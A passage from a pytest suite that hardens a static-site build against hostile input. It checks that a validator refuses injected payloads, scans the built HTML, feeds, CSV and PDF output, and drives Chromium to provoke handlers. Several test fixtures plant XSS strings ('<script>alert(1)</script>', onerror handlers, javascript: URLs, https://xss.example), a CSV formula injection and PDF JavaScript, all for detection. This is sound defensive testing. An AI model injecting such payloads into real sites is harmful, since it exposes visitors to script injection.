    total = len(CORPUS) * (texts + others)
    refused = len(classification.refused) + len(classification.dropped)
    lines = [
        f"adversarial suite: {len(CORPUS)} payloads in {len(FAMILIES)} families x "
        f"{texts // 2} bilingual text fields x 2 languages + {others} other string fields "
        f"({stamps} of them translation fingerprints, ten hex digits), over {len(KINDS)} "
        f"record kinds = {total} placements",
        f"  accepted by smesa check (and built, unless the build failed on them): "
        f"{len(classification.accepted)}; "
        f"refused by check: {refused} (of which {len(classification.dropped)} only "
        f"beside their family); not of the field's type: {len(classification.unfit)}",
    ]
    rules = Counter(f.rule for f in classification.refused.values())
    lines.append(f"  refusals by rule: {dict(sorted(rules.items()))}")
    with capsys.disabled():
        print("\n" + "\n".join(lines))
    assert {m.folder for m in KINDS} == set(models.BY_FOLDER)
    assert len(CORPUS) >= 100 and total >= 10_000
    # Every kind has fields that take the payloads, in both languages.
    for model, slots in fields.items():
        assert {s.language for s in slots} >= {"en", "zh"}, model.kind
    assert (
        classification.accepted
        | set(classification.refused)
        | classification.unfit
        | set(classification.dropped)
    ) == {(p.number, m, s.path) for p in CORPUS for m in KINDS for s in fields[m]}


def test_the_control_payload_is_accepted_in_every_field(classification: Classification):
    control = [p.number for p in CORPUS if p.family == "control"]
    refused = [key for key in classification.refused if key[0] in control]
    assert refused == [], [(k, classification.refused[k]) for k in refused]
    assert all(key[0] not in control for key in classification.dropped)


# -- what the check refuses -----------------------------------------------------------


def test_refusals_are_located_error_findings(classification: Classification):
    assert classification.stray == [], "errors outside the hostile records:\n" + "\n".join(
        map(str, classification.stray[:20])
    )
    for (number, model, path), error in classification.refused.items():
        assert error.is_error and re.fullmatch(r"SM\d{3}", error.rule), error
        assert error.line >= 1 and error.column >= 1, error
        assert error.path.startswith(f"data/{model.folder}/"), (number, path, error)


def finding_line(f: Finding) -> str:
    return f"{f.path}:{f.line}:{f.column}: error {f.rule} "


@pytest.mark.build
def test_the_build_refuses_what_the_check_refuses(classification: Classification):
    assert classification.refusing, "the check refused no payload at all"
    for repo in classification.refusing:
        assert repo.root is not None
        copy_site_sources(ROOT, repo.root, names=SITE_SOURCES)
        done = run("build", "--today", TODAY.isoformat(), cwd=repo.root)
        assert done.returncode == 1, done.stderr[-3000:]
        assert "Traceback" not in done.stderr, done.stderr[-3000:]
        assert not (repo.root / "site").exists()
        missing = [str(e) for e in repo.errors if finding_line(e) not in done.stderr]
        assert missing == [], "\n".join(missing[:20])


# -- what the check accepts -----------------------------------------------------------


@pytest.mark.build
def test_accepted_payloads_build(hostile_build: Built):
    messages = []
    for units, stderr in hostile_build.failed:
        shown = [(n, where, CORPUS[n].family, CORPUS[n].text[:50]) for n, where in units]
        errors = [line for line in stderr.splitlines() if line.startswith(("ERROR", "WARN"))]
        messages.append(f"left out (payload, fields, family, text): {shown}")
        messages += sorted(set(errors))[:30]
        if "Traceback" in stderr:
            messages.append(stderr[stderr.index("Traceback") :][-2000:])
    assert hostile_build.failed == [], "passed smesa check, then the build failed:\n" + "\n".join(
        messages
    )
    done = hostile_build.done
    assert done.returncode == 0, done.stderr[-3000:]
    assert "Traceback" not in done.stderr
    for year, run_ in hostile_build.report_runs.items():
        assert run_.returncode == 0, f"smesa report {year}:\n{run_.stderr[-3000:]}"
        assert "Traceback" not in run_.stderr


@pytest.mark.build
def test_the_scanner_finds_nothing_in_a_build_of_the_baseline(clean: Built, site_theme: Theme):
    assert scan_folder(clean.site, site_theme, clean.site) == []
    for folder in clean.reports.values():
        assert scan_folder(folder, theme_of(folder), None) == []


SITE_RULES = (
    "script",
    "external",
    "handler",
    "url",
    "element",
    "clobbering",
    "search-index",
    "well-formed",
    "template",
    "data-script",
    "csv",
)


@pytest.mark.build
@pytest.mark.parametrize("rule", SITE_RULES)
def test_the_site_is_inert(site_offences: list[Offence], rule: str):
    offences = [o for o in site_offences if o.rule == rule]
    assert offences == [], report(offences)


@pytest.mark.build
def test_the_report_is_inert(hostile_build: Built, clean: Built):
    offences = []
    for year, folder in hostile_build.reports.items():
        theme = theme_of(clean.reports[year])
        offences += [
            Offence(f"report {year}/{o.file}", o.rule, o.detail)
            for o in scan_folder(folder, theme, None)
        ]
    assert offences == [], report(offences)


# -- the scanner can fail -------------------------------------------------------------

PLANTED = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "url": '<a href=" jav&#x09;ascript:alert(1)">x</a><img srcset="a 1x, data:x 2x">',
    "element": '<iframe src="/"></iframe><form></form><meta http-equiv="Refresh" content="0">',
    "clobbering": '<a id="__drawer">x</a><img name="__config">',
    "template": EVALUATED,
    "external": '<img src="https://xss.example/x.png"><video poster="//xss.example/p">',
}


@pytest.mark.parametrize("rule", sorted(PLANTED))
def test_the_scanner_catches_planted_markup(rule: str):
    theme = Theme()
    shell = (
        '<html><head><script id="__config">{}</script></head><body>'
        '<input id="__search"><article class="md-content__inner">{}</article></body></html>'
    )
    theme.learn(shell.format("{}", "<p>x</p>"))
    assert scan_html("clean.html", shell.format("{}", "<p>x</p>"), theme) == []
    found = scan_html("planted.html", shell.format("{}", PLANTED[rule]), theme)
    assert {o.rule for o in found} == {rule}, found
    # An id the theme has elsewhere in the page is clobbering too.
    found = scan_html("planted.html", shell.format("{}", '<p id="__search">x</p>'), theme)
    assert [o.rule for o in found] == ["clobbering"]


def test_the_scanner_reads_xml_json_csv_and_pdf():
    feed = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="html">'
        "&lt;img src=x onerror=alert(1)&gt;</content></entry></feed>"
    )
    assert [o.rule for o in scan_xml("feed.xml", feed.encode())] == ["handler"]
    assert [o.rule for o in scan_xml("x.svg", b"<svg><script>1</script></svg>")] == ["element"]
    assert [o.rule for o in scan_xml("x.xml", b"<a>\x01</a>")] == ["well-formed"]
    fragment = {"url": "/cases/x/", "content": "<b>", "meta": {"image": "../x.png"}}
    name = "pagefind/fragment/en_1.pf_fragment"
    assert scan_json(name, b"pagefind_dcd" + json.dumps(fragment).encode()) == []
    fragment = {"url": "javascript:alert(1)", "meta": {"image": "https://xss.example/x"}}
    found = scan_json(name, b"pagefind_dcd" + json.dumps(fragment).encode())
    assert [o.detail for o in found] == ["url: javascript:alert(1)", "image: https://xss.example/x"]
    assert [o.rule for o in scan_json("data/x.json", b"{")] == ["well-formed"]
    rows = 'name,value\n"=HYPERLINK(""x"")",1\n-1,"\tx"\n"+a",-2.5\n'
    assert [o.detail for o in scan_csv("x.csv", rows)] == [
        'row 1: =HYPERLINK("x")',
        "row 2: \tx",
        "row 3: +a",
    ]
    pdf = b"%PDF-1.4\n1 0 obj << /AA << /O 2 0 R >> >> endobj\n" + b"stream\n"
    pdf += zlib.compress(b"/S /JavaScript /JS (app.alert(1))") + b"endstream\n"
    assert {o.detail for o in scan_pdf("x.pdf", pdf)} == {"/AA", "/JavaScript", "/JS"}


# -- Chromium -------------------------------------------------------------------------

PROVOKE = """async () => {
    const types = ["mouseover", "mouseenter", "mousemove", "mousedown", "mouseup",
        "pointerover", "pointerdown", "focus", "focusin", "blur", "keydown", "input",
        "change", "toggle", "load", "error", "animationstart", "transitionend",
        "copy", "dragstart", "wheel"];
    for (const element of document.querySelectorAll("body *")) {
        for (const type of types) {
            try { element.dispatchEvent(new Event(type)); } catch (error) {}
        }
    }
    // Links that would run something when followed: click them, and give the
    // navigations they queue (a javascript: URL runs in a task of its own) time to run.
    let clicked = false;
    for (const link of document.querySelectorAll("a[href], area[href]")) {
        if (!["http:", "https:", "mailto:"].includes(link.protocol)) {
            try { link.click(); clicked = true; } catch (error) {}
        }
    }
    if (clicked) await new Promise((done) => setTimeout(done, 200));
}"""
SEARCHES = ("alert", "script", "javascript", "onerror", "drawer", "Tmpl", "CDATA")


@dataclass
class Visit:
    """What Chromium saw: dialogs, console and page errors, requests off 127.0.0.1."""

    base: str
    page: str = ""
    events: list[str] = field(default_factory=list)

    def request(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme in ("data", "blob"):
            return
        if parts.scheme not in ("http", "https", "ws", "wss") or parts.hostname != "127.0.0.1":
            self.events.append(f"{self.page}: request to {url[:200]}")


def visit(site: Path, paths: list[str]) -> list[str]:
    """Open every path of `site` in one Chromium tab, provoke its handlers and links,
    then search the hostile words on the search pages; return what went wrong.

    In a thread of its own: the browser tests' session-wide Playwright (tests/browser)
    may run an event loop in this one, where a second sync Playwright cannot start.
    """
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        return pool.submit(_visit, site, paths).result()


def _visit(site: Path, paths: list[str]) -> list[str]:
    from playwright.sync_api import Error, sync_playwright

    with serve(site) as base, sync_playwright() as playwright:
        browser = launch_chromium(playwright)
        context = browser.new_context()
        seen = Visit(base)
        context.on("request", lambda request: seen.request(request.url))
        tab = context.new_page()
        tab.set_default_timeout(15_000)

        def dialog(d) -> None:
            seen.events.append(f"{seen.page}: {d.type} dialog {d.message[:120]!r}")
            d.dismiss()

        tab.on("dialog", dialog)
        tab.on(
            "console",
            lambda m: m.type == "error" and seen.events.append(f"{seen.page}: console {m.text}"),
        )
        tab.on("pageerror", lambda e: seen.events.append(f"{seen.page}: page error {e}"))
        for path in paths:
            seen.page = path
            try:
                tab.goto(base + path, wait_until="load")
                tab.evaluate(PROVOKE)
            except Error as error:
                seen.events.append(f"{path}: {str(error).splitlines()[0]}")
        for prefix in ("", "zh/") if (site / "search/index.html").is_file() else ():
            seen.page = f"/{prefix}search/ (searching)"
            tab.goto(f"{base}/{prefix}search/", wait_until="load")
            for query in SEARCHES:
                tab.fill(".pagefind-ui__search-input", query)
                with contextlib.suppress(Error):
                    tab.wait_for_selector(".pagefind-ui__result-link", timeout=3_000)
                tab.wait_for_load_state("networkidle")
                tab.evaluate(PROVOKE)
        context.close()
        browser.close()
    return list(dict.fromkeys(seen.events))  # each once, in order


def page_paths(site: Path) -> list[str]:
    paths = []
    for page in sorted(site.rglob("*.html")):
        rel = page.relative_to(site).as_posix()
        paths.append("/" + (rel.removesuffix("index.html") if rel.endswith("index.html") else rel))
    return paths


@pytest.mark.browser
def test_the_browser_catches_a_planted_dialog(tmp_path: Path):
    (tmp_path / "index.html").write_text(
        '<p><a href="javascript:alert(2)">x</a><img src=x onerror="alert(1)">'
        '<img src="https://xss.example/x.png"></p>',
        "utf-8",
    )
    events = visit(tmp_path, ["/"])
    assert any("alert dialog '1'" in e for e in events), events
    assert any("alert dialog '2'" in e for e in events), events
    assert any("request to https://xss.example/x.png" in e for e in events), events


@pytest.mark.build
@pytest.mark.browser
def test_chromium_visits_every_page_of_the_hostile_site(hostile_site: Path, capsys):
    paths = page_paths(hostile_site)
    events = visit(hostile_site, paths)
    with capsys.disabled():
        print(f"\nChromium visited {len(paths)} pages of the hostile site")
    assert events == [], f"{len(events)} event(s):\n" + "\n".join(events[:80])
